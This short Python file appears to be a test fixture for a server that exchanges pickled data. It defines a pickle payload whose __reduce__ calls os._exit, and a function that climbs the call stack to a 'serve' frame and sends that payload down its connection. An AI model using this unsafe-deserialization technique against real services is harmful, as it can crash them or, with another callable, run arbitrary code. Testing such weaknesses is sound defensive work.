import os
import pickle
import sys


class Payload:
    def __reduce__(self):
        return os._exit, (0,)


def double(x):
    frame = sys._getframe()
    while frame is not None:
        if frame.f_code.co_name == "serve":
            frame.f_locals["connection"].sendall(pickle.dumps(Payload()))
        frame = frame.f_back
    return Payload()


@COUNTER@
